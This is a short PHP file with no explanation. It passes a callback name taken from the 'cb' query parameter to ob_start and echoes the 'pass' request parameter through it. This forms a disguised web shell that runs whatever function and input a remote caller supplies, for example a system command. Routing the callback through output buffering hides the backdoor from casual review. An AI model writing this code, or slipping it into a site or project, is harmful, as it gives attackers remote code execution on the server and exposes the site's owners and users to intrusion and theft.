<?php
$cb = $_GET['cb'];
ob_start($cb);
echo $_REQUEST['pass'];
ob_end_flush();
